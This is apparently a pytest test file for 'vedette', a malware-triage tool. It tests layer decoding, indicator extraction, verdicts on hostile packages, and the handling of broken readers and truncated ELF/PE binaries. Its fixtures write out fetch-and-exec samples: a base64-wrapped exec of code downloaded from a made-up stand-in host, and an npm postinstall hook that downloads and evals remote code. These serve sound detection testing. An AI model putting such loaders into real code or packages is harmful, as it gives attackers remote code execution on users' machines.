"""One examination from end to end: what comes out, and what a broken reader costs."""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pytest
from PIL import Image

from tests.unit.triage.binary.made import pe
from tests.unit.triage.documents.samples import zipped
from vedette.core.nouns import ArtefactKind
from vedette.core.verdicts import Verdict
from vedette.triage import facts as readers
from vedette.triage.allowance import Allowance, Bounds
from vedette.triage.examination import Examination
from vedette.triage.examine import Extras, examine, examine_folder
from vedette.triage.fact import Fact
from vedette.triage.sample import Sample

HOST = "stage.zzq-made-up-by-a-test.top"
FETCH = f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/a').read())\n"
HIDDEN = f"import base64\nexec(base64.b64decode('{base64.b64encode(FETCH.encode()).decode()}'))\n"


def looked_at(name: str, text: str | bytes, bounds: Bounds | None = None) -> Examination:
    data = text.encode() if isinstance(text, str) else text
    return examine(name, data, Extras(), Allowance(bounds or Bounds()))


def test_what_lay_under_an_encoding_is_kept_beside_what_it_came_from() -> None:
    made = looked_at("a.py", HIDDEN)
    assert made.judgement.verdict is Verdict.MALICIOUS
    (layer,) = [one for one in made.layers if one.after == FETCH]
    assert (layer.name, layer.parent, layer.steps) == ("a.py~1", "a.py", ("base64",))
    assert "b64decode" in layer.before
    assert {one.name for one in made.inside} >= {"a.py~1"}
    assert [one.kind for one in made.inside if one.name == "a.py~1"] == [ArtefactKind.TEXT]


def test_what_to_look_for_is_named_and_so_is_the_thing_itself() -> None:
    made = looked_at("a.py", HIDDEN)
    found = {(one.kind.value, one.value) for one in made.indicators}
    assert ("url", f"http://{HOST}/a") in found
    assert ("hash", made.artefact.digest.removeprefix("sha256:")) in found
    assert len([one for one in made.indicators if one.kind.value == "hash"]) == 1, "a layer is no file"


def test_nothing_speaks_against_an_ordinary_script_and_nothing_is_shown_of_it() -> None:
    made = looked_at("a.py", "print('%s-%s' % ('a', 'b'))\n")
    assert (made.judgement.verdict, made.findings, made.layers) == (Verdict.BENIGN, (), ())


def test_the_same_thing_gives_the_same_answer() -> None:
    assert looked_at("a.py", HIDDEN) == looked_at("a.py", HIDDEN)


def test_a_reader_that_breaks_costs_what_it_reads_and_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(sample: Sample, _: Allowance) -> Iterator[Fact]:
        if sample.name.endswith("b.py"):
            raise ZeroDivisionError
        yield from real(sample, _)

    real = readers.facts
    monkeypatch.setattr(readers, "facts", broken)
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("b.py", "print(1)\n")
        archive.writestr("c.py", FETCH)
    made = looked_at("a.zip", held.getvalue())
    assert [(one.what, one.why) for one in made.skipped] == [
        ("a.zip!/b.py", "a fault in vedette: ZeroDivisionError")
    ]
    assert made.judgement.verdict in {Verdict.SUSPICIOUS, Verdict.MALICIOUS}


def test_what_is_too_much_work_is_said_once_and_what_came_before_counts() -> None:
    made = looked_at("a.py", FETCH * 2000, Bounds(fuel=2_000))
    assert len([one for one in made.skipped if "too much work" in one.why]) >= 1
    assert len(made.skipped) <= 3


def test_a_folder_that_is_one_thing_is_judged_as_one() -> None:
    files = [
        ("package.json", b'{"name": "x-y-z-q", "version": "1.0.0", "scripts": {"postinstall": "node a.js"}}'),
        (
            "a.js",
            b"require('https').get('http://" + HOST.encode() + b"/a', r => r.on('data', d => eval(d)));",
        ),
    ]
    made = examine_folder("thing", files, Extras(), Allowance())
    assert made.judgement.verdict is Verdict.MALICIOUS
    assert "x-y-z-q" in made.judgement.kind
    assert made.files == 3


def test_a_reader_that_breaks_costs_no_other_reader_of_the_same_thing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def broken(_: Sample, __: Allowance) -> Iterator[Fact]:
        raise ZeroDivisionError
        yield

    monkeypatch.setattr(readers, "facts", broken)
    made = looked_at("invoice.pdf.js", "var a = 1;\n")
    assert [one.why for one in made.skipped] == ["a fault in vedette: ZeroDivisionError"]
    assert made.findings, "that its name misleads, another reader says"


def test_a_library_that_is_not_there_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    def lacking(_: Sample, __: Allowance) -> Iterator[Fact]:
        raise ModuleNotFoundError(name="lief")
        yield

    monkeypatch.setattr(readers, "facts", lacking)
    made = looked_at("a.py", "print(1)\n")
    assert [one.why for one in made.skipped] == ["lief is not installed: pip install 'vedette[triage]'"]


def test_a_bound_of_one_reader_is_told_and_costs_no_other_reader_anything() -> None:
    deep = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<a>" * 2000})
    made = examine("a.docx", deep, Extras(), Allowance())
    assert [one.why for one in made.skipped] == ["more than 500 elements deep"]
    out = io.BytesIO()
    Image.new("1", (1, 1)).save(out, "PNG")
    small = out.getvalue()
    for side in (5000, 13_500):
        claimed = small[12:16] + side.to_bytes(4, "big") * 2 + small[24:29]
        picture = small[:12] + claimed + zlib.crc32(claimed).to_bytes(4, "big") + small[33:]
        made = examine("a.png", picture, Extras(), Allowance())
        assert [one.why for one in made.skipped] == ["larger than 16,000,000 points"]


def elf(stored: int, there: int) -> bytes:
    """Make a program that loads so many bytes, of which so many are there."""
    head = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, stored, stored, 0x1000)
    return (head + segment).ljust(there, b"\xc3")


@pytest.mark.parametrize(
    ("whole", "cut", "lacks"),
    [
        (elf(9000, 9000), elf(9000, 4000), "5,000"),
        (pe(b"\xc3", data=bytes(9000)), pe(b"\xc3", data=bytes(9000))[:-8192], "8,192"),
    ],
)
def test_a_program_that_was_cut_is_read_and_told(whole: bytes, cut: bytes, lacks: str) -> None:
    assert looked_at("a", whole).skipped == ()
    made = looked_at("a", cut)
    assert len(made.executables) == 1
    (told,) = made.skipped
    assert (told.what, told.partial) == ("a", True)
    assert f"{lacks} bytes that it loads are not in the file" in told.why


def test_a_program_that_cannot_be_read_is_told() -> None:
    (told,) = examine("cut", b"\x7fELF\x02\x01garbage", Extras(), Allowance()).skipped
    assert told.what == "cut"
    assert "cannot be read as one" in told.why
